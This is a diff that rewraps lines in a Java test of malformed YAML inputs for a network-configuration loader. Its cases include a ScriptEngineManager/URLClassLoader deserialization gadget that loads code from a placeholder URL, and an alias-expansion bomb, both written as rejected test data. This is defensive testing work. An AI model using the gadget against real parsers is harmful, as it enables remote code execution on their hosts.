@@ -46,9 +46,11 @@ class MalformedYamlTest
                 f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
                 """, "aliases for non-scalar nodes exceeds the specified max=10"),
             Arguments.of("an alias to an undefined anchor", VALID_HEAD + "vnis: [ *nowhere ]\n", "line"),
-            Arguments.of("a Java class tag", "vtep: !!javax.script.ScriptEngineManager [ !!java.net.URLClassLoader [[ !!java.net.URL [\"http://192.0.2.9/\"] ]] ]\n", "line"),
+            Arguments.of("a Java class tag",
+                "vtep: !!javax.script.ScriptEngineManager [ !!java.net.URLClassLoader [[ !!java.net.URL [\"http://192.0.2.9/\"] ]] ]\n", "line"),
             Arguments.of("a custom local tag", "vtep: !evil { local-ip: 192.0.2.1 }\n", "line"),
-            Arguments.of("a binary where a name belongs", "vtep: { local-ip: 192.0.2.1 }\nports: [ { name: !!binary AAAA, vlans: { untagged: 100 } } ]\n",
+            Arguments.of("a binary where a name belongs",
+                "vtep: { local-ip: 192.0.2.1 }\nports: [ { name: !!binary AAAA, vlans: { untagged: 100 } } ]\n",
                 "line 2"),
             Arguments.of("a binary that is not base64 (found by ConfigLoaderFuzzTest)", "vtep: { local-ip: !!binary ZXR\u00efMQ== }\n", "line 1"),
             Arguments.of("a timestamp where an address belongs", "vtep: { local-ip: 2001-12-14t21:59:43.10-05:00 }\n", "line 1"),
@@ -58,7 +60,8 @@ class MalformedYamlTest
                 "ports[0].vlans"),
             Arguments.of("a number too large for any type", "vtep: { local-ip: 192.0.2.1, udp-port: 1" + "0".repeat(400) + " }\n" +
                 "ports: [ { name: eth1, vlans: { untagged: 100 } } ]\n", "vtep.udp-port"),
-            Arguments.of("a float where a number belongs", "vtep: { local-ip: 192.0.2.1, ttl: .inf }\nports: [ { name: eth1, vlans: { untagged: 100 } } ]\n",
+            Arguments.of("a float where a number belongs",
+                "vtep: { local-ip: 192.0.2.1, ttl: .inf }\nports: [ { name: eth1, vlans: { untagged: 100 } } ]\n",
                 "vtep.ttl"),
             Arguments.of("a null key", VALID_HEAD + "~: 1\n", "null"),
             Arguments.of("duplicate keys", "vtep: { local-ip: 192.0.2.1 }\nvtep: { local-ip: 192.0.2.2 }\n", "vtep"),
